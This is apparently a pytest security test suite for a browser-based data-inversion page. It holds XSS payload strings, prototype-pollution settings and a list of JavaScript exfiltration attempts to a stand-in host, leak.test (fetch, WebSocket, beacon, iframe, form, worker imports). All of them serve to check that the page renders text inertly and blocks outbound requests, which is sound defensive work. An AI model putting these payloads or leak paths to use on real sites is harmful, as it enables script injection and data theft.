"""Data are numbers and texts, never markup or code, and nothing leaves the page."""
import base64
import json

import pytest
from page import PAGE

# What would act if any of it were read as markup.
ATTACK = "<img src=x onerror=\"document.title='owned'\"><svg onload=\"document.title='owned'\"></svg>"
SCRIPT = "</script><script>document.title='owned'</script>"
MARKUP = "img, iframe, object, embed, base, link[rel=import], [onerror], [onload], [onclick]"


def hostile_decay(folder):
    """A decay that can be inverted, with markup wherever a text may stand."""
    path = folder / f"{ATTACK.replace('/', '')}.csv"
    rows = [f"{0.001 * i:.6f},{100 * 0.98 ** i + 0.2 * (-1) ** (i * i // 3):.4f}" for i in range(1, 400)]
    path.write_text("\n".join([f"# {ATTACK} {SCRIPT}", f"{ATTACK} (s),{SCRIPT}", *rows]) + "\n")
    return path


def assert_untouched(page, scripts):
    """No element came of a text, and no script ran."""
    assert page.run("return document.title").startswith("Vorin")
    assert page.run("return document.querySelectorAll(arguments[0]).length", MARKUP) == 0
    assert page.run("return document.scripts.length") == scripts


def test_names_headers_and_comments_are_never_markup(page, folder):
    scripts = page.run("return document.scripts.length")
    path = hostile_decay(folder)
    page.drop(path)
    page.arrived(1)
    assert "<img src=x onerror=" in page.text("#decays")
    page.run("document.querySelectorAll('details').forEach((part) => { part.open = true; })")
    assert_untouched(page, scripts)
    page.invert()
    assert "<img src=x" in page.text("#results")
    assert_untouched(page, scripts)


def test_what_is_kept_of_hostile_data_is_harmless(page, folder):
    page.drop(hostile_decay(folder))
    page.arrived(1)
    page.invert()
    name, report = page.kept("#export-report")
    assert not set('<>"') & set(name)
    kept = folder / "report.html"
    kept.write_bytes(report)
    page.driver.get(kept.as_uri())
    assert page.run("return document.readyState") == "complete"
    assert "<img src=x" in page.run("return document.body.textContent")
    assert page.run("return document.title") != "owned"
    assert page.run("return document.scripts.length") == 0
    assert page.run("return document.querySelectorAll(arguments[0]).length",
                    MARKUP.replace("img, ", "img[src=x], ")) == 0


@pytest.mark.parametrize("text", [ATTACK, f"time,{ATTACK}\n1,2\n2,1\n", f"{SCRIPT}\n{SCRIPT}\n"])
def test_refused_text_is_told_as_text(page, text):
    scripts = page.run("return document.scripts.length")
    page.paste(text)
    page.until(lambda: page.message() or page.decays(), "an answer to what was pasted")
    assert_untouched(page, scripts)


@pytest.mark.parametrize("settings", [
    {"version": 1, "settings": {"kernel": ATTACK, "weight": ATTACK, "grid": SCRIPT}},
    {"__proto__": {"owned": True}, "settings": {"__proto__": {"owned": True}, "constructor": ATTACK}},
    {"settings": [ATTACK], "reading": ATTACK, "map": 3},
    ATTACK,
])
def test_settings_of_others_cannot_act(page, folder, settings):
    scripts = page.run("return document.scripts.length")
    path = folder / "settings.json"
    path.write_text(json.dumps(settings))
    page.one("#open-settings").send_keys(str(path))
    page.ready("the settings are read")
    assert_untouched(page, scripts)
    assert page.run("return ({}).owned ?? null") is None
    page.click("#example")
    page.arrived(1)  # the page still works


@pytest.mark.parametrize("fragment", [f"#{ATTACK}", "#settings=" + SCRIPT, "#%00%ff%", "#s=" +
                                      base64.b64encode(json.dumps({"weight": ATTACK}).encode()).decode()])
def test_links_of_others_cannot_act(browser, fragment, page):
    browser.open(fragment.replace(" ", "%20").replace('"', "%22"))
    assert browser.run("return document.title").startswith("Vorin")
    assert browser.run("return document.querySelectorAll(arguments[0]).length", MARKUP) == 0


# Ways out of a page or into it, each ending in a text that tells what happened.
WAYS = {
    "fetch": "return fetch('http://leak.test/fetch').then(() => 'out', () => 'stopped')",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'http://leak.test/xhr');"
               "return new Promise((done) => { r.onload = () => done('out');"
               " r.onerror = () => done('stopped'); r.send(); })",
    "image": "const i = new Image(); return new Promise((done) => { i.onload = () => done('out');"
             " i.onerror = () => done('stopped'); i.src = 'http://leak.test/image'; })",
    "socket": "return new Promise((done) => { try { const s = new WebSocket('ws://leak.test/socket');"
              " s.onopen = () => done('out'); s.onerror = () => done('stopped'); }"
              " catch { done('stopped'); } })",
    "beacon": "navigator.sendBeacon('http://leak.test/beacon', 'data'); return 'stopped'",
    "style": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href ="
             " 'http://leak.test/style'; document.head.append(l);"
             " return new Promise((done) => { l.onload = () => done('out'); l.onerror = () => done('stopped'); })",
    "frame": "const f = document.createElement('iframe'); f.src = 'http://leak.test/frame';"
             " document.body.append(f); return new Promise((done) => { f.onload = () => { f.remove(); done('stopped'); }; })",
    "script": "const s = document.createElement('script'); try { s.src = 'http://leak.test/script'; }"
              " catch { return 'stopped'; } document.head.append(s); return 'out'",
    "markup": "try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return 'out'; }"
              " catch { return 'stopped'; }",
    "code": "try { return new Function('return \"out\"')(); } catch { return 'stopped'; }",
    "worker": "try { new Worker('data:text/javascript,0'); return 'out'; } catch { return 'stopped'; }",
    "form": "const f = document.createElement('form'); f.action = 'http://leak.test/form';"
            " document.body.append(f); f.submit(); return new Promise((done) =>"
            " addEventListener('securitypolicyviolation', () => done('stopped'), { once: true }))",
}


def test_no_way_leads_out_of_the_page(browser):
    browser.open()
    for name, way in WAYS.items():
        # From a timer: what the driver itself runs may evaluate texts.
        answer = browser.driver.execute_async_script(
            "const done = arguments[0]; setTimeout(() => (async () => { " + way +
            " })().then(done, (e) => done(String(e))))")
        assert answer == "stopped", (name, answer)
    violations = browser.recorded()["violations"]
    assert {entry.split(" ")[0] for entry in violations} >= {
        "connect-src", "img-src", "style-src-elem", "frame-src", "require-trusted-types-for", "form-action"}
    assert browser.witness.hosts() == []
    browser.console_errors()  # they were provoked
    browser.look_at_log()
    browser.requests.clear()


def test_the_worker_has_no_way_out_either(browser):
    """A worker made as the page makes its own, by the page's policy for addresses."""
    keep = browser.cdp("Page.addScriptToEvaluateOnNewDocument", source="""
      const create = trustedTypes.createPolicy.bind(trustedTypes);
      trustedTypes.createPolicy = (...all) => (window.policy = create(...all));""")
    browser.open()
    browser.cdp("Page.removeScriptToEvaluateOnNewDocument", identifier=keep["identifier"])
    answer = browser.driver.execute_async_script("""
      const done = arguments[0];
      const body = `(async () => {
        const ways = [() => fetch("http://leak.test/worker"), () => import("http://leak.test/import"),
          async () => importScripts("http://leak.test/script"), async () => eval("1"),
          () => new Promise((out, stopped) => { const s = new WebSocket("ws://leak.test/socket");
            s.onopen = out; s.onerror = stopped; })];
        const answers = [];
        for (const way of ways) answers.push(await way().then(() => "out", () => "stopped"));
        postMessage(answers.join());
      })()`;
      const worker = new Worker(policy.createScriptURL(URL.createObjectURL(new Blob([body]))));
      worker.onmessage = (event) => done(event.data);
      worker.onerror = (event) => done("no worker: " + event.message);
    """)
    assert answer == ",".join(["stopped"] * 5)
    assert browser.witness.hosts() == []
    browser.console_errors()
    browser.look_at_log()
    browser.requests.clear()


def test_the_witness_would_see_a_request(browser, folder):
    """The tests above can fail: a page without the policy is seen by proxy and log."""
    path = folder / "open.html"
    path.write_text("<!DOCTYPE html><title>open</title><script>"
                    "fetch('http://leak.test/seen').catch(() => { document.title = 'done'; })</script>")
    browser.driver.get(path.as_uri())
    browser.until(lambda: browser.driver.title == "done", "the request fails")
    assert "leak.test" in browser.witness.hosts()
    browser.look_at_log()
    assert "http://leak.test/seen" in browser.requests
    browser.witness.lines.clear()
    browser.requests.clear()
    browser.console_errors()


def test_the_page_works_without_a_network(browser, page):
    browser.network(False)
    try:
        browser.open()
        assert browser.run("return navigator.onLine") is False
        browser.click("#example")
        browser.arrived(1)
        browser.invert()
        assert browser.results()[0]["total"] > 0
    finally:
        browser.network(True)
    assert PAGE.name == "vorin.html"
